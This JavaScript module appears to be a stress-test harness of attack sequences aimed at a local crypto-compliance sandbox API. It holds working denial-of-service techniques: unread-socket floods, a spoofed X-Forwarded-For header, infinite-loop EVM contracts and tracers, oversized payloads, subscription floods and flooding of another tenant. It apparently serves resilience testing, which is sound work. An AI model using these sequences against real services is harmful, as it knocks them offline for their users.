import net from 'node:net';
import { WebSocket } from 'ws';
import { api, sleep } from './api.mjs';
import { costlyHandshakes } from './costly-handshakes.mjs';
import { answering, join, register, verificationOf } from './hostile-calls.mjs';
import { sender } from './hostile-ethereum.mjs';

/**
 * Sequences of one or two VASPs that have stopped everybody once. Each takes `{ url, trial, over, note }`, begins anew until
 * `over()`, and notes what it has got.
 */

const hash = n => `0x${n.toString(16).padStart(64, '0')}`;
const times = (count, act) => Promise.all(Array.from({ length: count }, (_, n) => act(n)));
const rpcOf = send => (method, params) => send('POST', '/devnet/ethereum', { jsonrpc: '2.0', id: 1, method, params });

async function signedIn(url, apiKey) {
  const answer = await fetch(`${url}/console/sign-in`, {
    method: 'POST',
    redirect: 'manual',
    headers: { 'content-type': 'application/x-www-form-urlencoded', origin: 'http://127.0.0.1' },
    body: new URLSearchParams({ apiKey, to: '/console' }),
  });
  return answer.headers.get('set-cookie')?.split(';')[0] ?? '';
}

/** The page, the timeline and `why` of a verification, ten times at once. */
async function looks({ url, trial, note }, uuid) {
  const { send } = api(url, trial.apiKey);
  const cookie = await signedIn(url, trial.apiKey);
  const page = async () => {
    const answer = await fetch(`${url}/console/verifications/${uuid}`, { headers: { cookie } });
    await answer.text();
    note('page of a verification', answer.status);
  };
  await times(10, async () => {
    note('timeline', (await send('GET', `/sandbox/v1/verifications/${uuid}/timeline`)).status);
    note('why', (await send('GET', `/sandbox/v1/verifications/${uuid}/why`)).status);
    await page();
  });
}

export async function manyReports(attack) {
  const { send } = api(attack.url, attack.trial.apiKey);
  while (!attack.over()) {
    const uuid = await verificationOf(send);
    for (let n = 0; n < 2_400 && !attack.over(); n += 20)
      await times(20, async i => {
        const report = { verificationUuid: uuid, txHash: hash(n + i) };
        attack.note('reports', (await send('POST', '/v1/verifications/tx', report)).status);
      });
    await looks(attack, uuid);
  }
}

export async function refusedBodies(attack) {
  const { send } = api(attack.url, attack.trial.apiKey);
  const pad = 'x'.repeat(64_000);
  while (!attack.over()) {
    const verificationUuid = await verificationOf(send);
    for (let n = 0; n < 6_000 && !attack.over(); n += 20)
      await times(20, async () =>
        attack.note('refused bodies', (await send('POST', '/v1/nowhere', { verificationUuid, pad })).status),
      );
    await looks(attack, verificationUuid);
  }
}

/** Sends on so many connections, and reads nothing of the answers. */
async function unread({ url, over, note }, what, connections, head) {
  const { hostname, port } = new URL(url);
  while (!over()) {
    const sockets = [];
    await times(
      connections,
      () =>
        new Promise(resolve => {
          const socket = net.connect(port, hostname, () => {
            socket.write(head);
            resolve();
          });
          socket.pause().on('error', resolve);
          sockets.push(socket);
        }),
    );
    note(what, 'sent');
    for (let waited = 0; waited < 5_000 && !over(); waited += 500) await sleep(500);
    for (const socket of sockets) socket.destroy();
  }
}

export function unreadBatches(attack) {
  const list = { jsonrpc: '2.0', method: 'tools/list' };
  const body = JSON.stringify(Array.from({ length: 100 }, (_, id) => ({ ...list, id })));
  const head = [
    'POST /mcp HTTP/1.1',
    'Host: 127.0.0.1',
    `Authorization: Bearer ${attack.trial.apiKey}`,
    'Content-Type: application/json',
    'Accept: application/json, text/event-stream',
    `Content-Length: ${body.length}`,
  ];
  return unread(attack, 'unread batches', 120, `${head.join('\r\n')}\r\n\r\n${body}`);
}

/** Without a key. */
export async function unreadAssets(attack) {
  const page = await (await fetch(`${attack.url}/console/sign-in`)).text();
  const [asset] = /\/[^"' ]*\/assets\/[^"' ]+/.exec(page) ?? ['/docs'];
  const get = `GET ${asset} HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Forwarded-For: 10.9.1.1\r\n\r\n`;
  await unread(attack, 'unread assets', 120, get.repeat(8));
}

/** JUMPDEST PUSH1 0 JUMP, as a creation. */
const ENDLESS_CONTRACT = '0x635b6000566000526004601cf3';

async function endlessContract(attack) {
  const { next, first } = await sender(attack, ENDLESS_CONTRACT, 200_000n);
  attack.note('contract that loops', await next());
  return first;
}

/** The robot pays tiny amounts to a contract that loops. */
export async function endlessPayees(attack) {
  const { url, trial, over, note } = attack;
  const { send } = api(url, trial.apiKey);
  const contract = await endlessContract(attack);
  const vasp = await answering((response, text) => response.end(text));
  note('addresses', (await register(send, trial, vasp.address)).status);
  const { body: first } = await send('GET', '/sandbox/v1/requests/verify-user');
  const { body: opened } = await send('POST', first.path, first.body);
  const { amount, symbol } = first.body.assetInfo;
  const [payee] = first.body.payload.ivms101.beneficiary.accountNumber;
  const { body: paid } = await send('POST', '/sandbox/v1/faucet', { symbol, address: payee, amount });
  const reported = { verificationUuid: opened?.verificationUuid, txHash: paid?.txHash };
  note('paid to the robot', (await send('POST', '/v1/verifications/tx', reported)).status);
  while (!over()) {
    for (let n = 0; n < 110 && !over(); n++) {
      const query = new URLSearchParams({ symbol, amount: '0.000001', account: contract });
      const { body: ready } = await send('GET', `/sandbox/v1/requests/robot-verify-user?${query}`);
      if (!ready) continue;
      const { body: asked, status } = await send('POST', ready.path, ready.body);
      note('withdrawals asked', status);
      await sleep(100);
      const order = { verificationUuid: asked?.verificationUuid };
      note('withdrawals', (await send('POST', '/vega/robot/v1.0/action/withdrawal', order)).status);
    }
  }
  vasp.close();
}

export async function endlessFaucet(attack) {
  const { send } = api(attack.url, attack.trial.apiKey);
  const address = await endlessContract(attack);
  const order = { symbol: 'ETH', address, amount: '0.0001' };
  while (!attack.over())
    await times(20, async () =>
      attack.note('faucet to a loop', (await send('POST', '/sandbox/v1/faucet', order)).status),
    );
}

export async function oddCalls(attack) {
  const { send } = api(attack.url, attack.trial.apiKey);
  const rpc = rpcOf(send);
  const data = '0x5b600056';
  const looping = { blockStateCalls: Array.from({ length: 16 }, () => ({ calls: [{ data }] })) };
  const overridden = { blockStateCalls: [{ blockOverrides: { gasLimit: `0x${'f'.repeat(16)}` }, calls: [{ data }] }] };
  const javascript = { tracer: '{ step() { while (true); }, result() {}, fault() {} }' };
  const calls = [
    ['eth_call', [{ data, gas: null }, 'latest']],
    ['eth_call', [{ data, gas: `0x${'f'.repeat(70)}` }, 'latest']],
    ['eth_estimateGas', [{ data, gas: null }]],
    ['eth_createAccessList', [{ data, gas: `0x${'0'.repeat(80)}ffffffff` }]],
    ['eth_simulateV1', [looping, 'latest']],
    ['eth_simulateV1', [overridden, 'latest']],
    ['debug_traceTransaction', [hash(1), javascript]],
    ['eth_getLogs', [{ fromBlock: 'earliest', toBlock: 'latest' }]],
    ['eth_newFilter', [{ address: Array(5_000).fill(`0x${'11'.repeat(20)}`) }]],
    ['eth_newBlockFilter', []],
  ];
  while (!attack.over())
    await times(4, async () => {
      for (const [method, params] of calls) {
        const { status, body } = await rpc(method, params);
        attack.note(method, body?.error ? `error ${body.error.code}` : status);
      }
    });
}

export async function tinyChunks(attack) {
  const { url, trial, over, note } = attack;
  const { send } = api(url, trial.apiKey);
  const vasp = await answering((response, text) => {
    const padded = text.padEnd(60_000);
    let at = 0;
    const more = () => {
      for (let n = 0; n < 500 && at < padded.length; n++) response.write(padded[at++]);
      if (at < padded.length && !response.destroyed) setImmediate(more);
      else response.end();
    };
    more();
  });
  note('addresses', (await register(send, trial, vasp.address)).status);
  while (!over()) await times(10, async () => note('tiny chunks', (await verificationOf(send)) ? 'asked' : 'refused'));
  vasp.close();
}

export async function longAnswers(attack) {
  const { url, trial, over, note } = attack;
  const { send } = api(url, trial.apiKey);
  const vasp = await answering((response, text) => response.end(text.padEnd(65_000)));
  note('addresses', (await register(send, trial, vasp.address)).status);
  while (!over()) await times(20, async () => note('long answers', (await verificationOf(send)) ? 'asked' : 'refused'));
  vasp.close();
}

export async function subscriptions({ url, trial, over, note }) {
  while (!over()) {
    const sockets = await times(
      10,
      () =>
        new Promise(resolve => {
          const socket = new WebSocket(`${url.replace('http', 'ws')}/devnet/ethereum?key=${trial.apiKey}`);
          socket.on('open', () => {
            for (let id = 0; id < 500; id++)
              socket.send(JSON.stringify({ jsonrpc: '2.0', id, method: 'eth_subscribe', params: ['newHeads'] }));
            resolve(socket);
          });
          socket.on('message', text => {
            const { error, result } = JSON.parse(String(text));
            if (error ?? result) note('subscriptions', error ? 'refused' : 'made');
          });
          socket.on('error', () => resolve(socket));
        }),
    );
    for (let waited = 0; waited < 10_000 && !over(); waited += 500) await sleep(500);
    for (const socket of sockets) socket.terminate();
  }
}

/** Verifications and reports that all reach one other VASP. Its own calls are served. */
export async function floodedVasp(attack) {
  const { url, trial, over, note } = attack;
  const { send } = api(url, trial.apiKey);
  const flooded = await join(url, '10.9.3.1');
  const own = api(url, flooded.apiKey).send;
  const vasp = await answering((response, text) => response.end(text));
  note('addresses', (await register(own, flooded, vasp.address)).status);
  const { body: ready } = await send('GET', '/sandbox/v1/requests/verify-user');
  const body = { ...ready.body, beneficiaryVaspId: flooded.vaspId };
  const { body: ownRequest } = await own('GET', '/sandbox/v1/requests/verify-user');
  while (!over()) {
    await times(20, async n => {
      const { status, body: asked } = await send('POST', ready.path, body);
      note('verifications to another', status);
      const report = { verificationUuid: asked?.verificationUuid, txHash: hash(n) };
      if (status === 200) note('reports to another', (await send('POST', '/v1/verifications/tx', report)).status);
    });
    note('own calls of the other', (await own('POST', ownRequest.path, ownRequest.body)).status);
  }
  vasp.close();
}

/** What is kept of calls: entries of the audit log, exchanges, assessments. */
export async function keptCalls(attack) {
  const { send } = api(attack.url, attack.trial.apiKey);
  const verificationUuid = await verificationOf(send);
  while (!attack.over())
    for (const [what, path, body] of [
      ['refused, with an audit entry', '/sandbox/v1/tenants', { name: 'x'.repeat(60) }],
      ['refused', '/v1/verifications', { verificationUuid, pad: 'x'.repeat(2_000) }],
      ['keys', '/sandbox/v1/keys', { name: 'x'.repeat(60) }],
      ['reports of an error', '/v1/verifications/error', { verificationUuid }],
    ])
      await times(5, async () => attack.note(what, (await send('POST', path, body)).status));
}

export async function manyMembers(attack) {
  const { send } = api(attack.url, attack.trial.apiKey);
  const members = Object.fromEntries(Array.from({ length: 18_500 }, (_, n) => [`m${n}`, 0]));
  const memos = Array.from({ length: 7_000 }, () => ({ Memo: { MemoData: 'AB' } }));
  const transaction = { TransactionType: 'AccountSet', Account: 'rHb9CJAWyB4rj91VRWn96DkukG4bwdtyTh' };
  const search = (_, id) => ({
    jsonrpc: '2.0',
    id,
    method: 'tools/call',
    params: { name: 'search_guide', arguments: { query: 'why is it denied' } },
  });
  const simulate = { method: 'simulate', params: [{ tx_json: { ...transaction, Memos: memos } }] };
  const anonymous = api(attack.url).send;
  while (!attack.over())
    for (const [what, call] of [
      ['members', () => send('POST', '/v1/verifications', members)],
      ['members without a key', () => anonymous('POST', '/v1/verifications', members, '10.9.2.1')],
      ['memos', () => send('POST', '/devnet/xrpl', simulate)],
      ['searches', () => send('POST', '/mcp', Array.from({ length: 100 }, search))],
    ])
      await times(4, async () => attack.note(what, (await call()).status));
}

export const SEQUENCES = {
  manyReports,
  refusedBodies,
  unreadBatches,
  unreadAssets,
  endlessPayees,
  endlessFaucet,
  oddCalls,
  tinyChunks,
  longAnswers,
  subscriptions,
  manyMembers,
  floodedVasp,
  keptCalls,
  costlyHandshakes,
};
